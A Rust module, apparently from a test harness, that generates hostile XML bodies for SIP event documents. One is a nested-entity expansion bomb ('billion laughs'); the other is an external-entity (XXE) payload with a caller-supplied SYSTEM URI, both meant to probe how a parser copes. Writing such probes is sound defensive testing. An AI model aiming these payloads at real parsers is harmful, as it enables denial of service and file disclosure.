//! Bodies that no server writes: entity bombs and references to files.
//!
//! The bombs are small on the wire; what they would expand to is the reader's problem.

use super::{Form, Habits};
use sip::ascii_xml::escaped;
use std::fmt::Write as _;

impl Form<'_> {
    pub(super) fn dtd_bomb(&self) -> String {
        let mut entities = String::from("<!ENTITY a \"boom\">");
        for pair in ["ab", "bc", "cd", "de", "ef", "fg", "gh", "hi"] {
            let (inner, outer) = pair.split_at(1);
            let ten = format!("&{inner};").repeat(10);
            let _ = write!(entities, "<!ENTITY {outer} \"{ten}\">");
        }
        self.with_dtd(&entities, "&i;")
    }

    pub(super) fn external_entity(&self, uri: &str) -> String {
        let entity = format!("<!ENTITY canary SYSTEM \"{}\">", escaped(uri));
        self.with_dtd(&entity, "&canary;")
    }

    fn with_dtd(&self, entities: &str, value: &str) -> String {
        let (declaration, namespace) = (self.habits.declaration(), self.habits.namespace());
        let (root, inside) = match self.habits {
            Habits::FeatureEvent(_) => (
                "DoNotDisturbEvent",
                format!("<device>{value}</device><doNotDisturbOn>true</doNotDisturbOn>"),
            ),
            Habits::Hoteling(_) => (
                "HotelingEvent",
                format!("<guestAddress>{value}</guestAddress>"),
            ),
        };
        format!(
            "{declaration}<!DOCTYPE {root} [{entities}]><{root} xmlns=\"{namespace}\">{inside}</{root}>"
        )
    }
}
